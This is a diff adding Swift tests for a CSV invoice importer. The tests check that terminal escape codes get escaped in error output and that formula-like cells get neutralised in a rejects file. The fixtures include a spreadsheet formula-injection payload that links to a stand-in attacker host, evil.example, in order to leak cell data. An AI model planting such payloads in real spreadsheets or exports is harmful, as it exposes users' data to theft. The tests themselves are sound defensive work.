@@ -196,6 +196,15 @@ import TestSupport
         }
         #expect(try await count("clients", tenant) == 2, "the tenant's C1 and C2 only")
 
+        // A value quoted back in a message (here, a date) reaches the terminal escaped.
+        let dates = try await admin("import", "invoices", tenant.slug, try file("""
+            client_ref,number,currency,amount,issued_on
+            C1,X-1,USD,10,2013\u{1B}[31m
+            """))
+        #expect(dates.status == 1)
+        #expect(dates.stderr.contains("\"2013\\x1b[31m\" is not a date"), "\(dates.stderr)")
+        #expect(!dates.stderr.unicodeScalars.contains("\u{1B}"))
+
         let notes = try file("""
             client_ref,noted_at,channel,body
             C1,2013-02-01,call,"Called twice.\r
@@ -213,6 +222,23 @@ import TestSupport
             try await tx.query("SELECT body FROM contact_notes").scalar(String.self)
         }
         #expect(body == "Called twice.\r\nOwner:\tnext week")
+    }
+
+    @Test func cellsASpreadsheetWouldRunAsFormulasAreNeutralisedInTheRejectsFile() async throws {
+        let tenant = try await tenant()
+        let path = try file("""
+            client_ref,number,currency,amount,issued_on,memo
+            C1,F-1,USD,-12.50,2013-01-05,=HYPERLINK("http://evil.example/?"&A1;"click")
+            C1,F-2,USD,-3,2013-01-05,+1-555-0100
+            C1,@F-3,USD,-7,2013-01-05,-2+3
+            """)
+        let result = try await admin("import", "invoices", tenant.slug, path, "--rejects", path + ".bad")
+        #expect(result.status == 0, "\(result.stderr)")
+        let lines = try String(contentsOfFile: path + ".bad", encoding: .utf8).components(separatedBy: "\r\n")
+        #expect(lines.count == 5, "\(lines)")
+        #expect(lines[1].hasPrefix("C1,F-1,USD,-12.50,2013-01-05,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")\",2,"), "\(lines[1])")
+        #expect(lines[2].hasPrefix("C1,F-2,USD,-3,2013-01-05,'+1-555-0100,3,"), "\(lines[2])")
+        #expect(lines[3].hasPrefix("C1,'@F-3,USD,-7,2013-01-05,'-2+3,4,"), "\(lines[3])")
     }
 
     @Test func importingTheSameFileAgainChangesNothing() async throws {
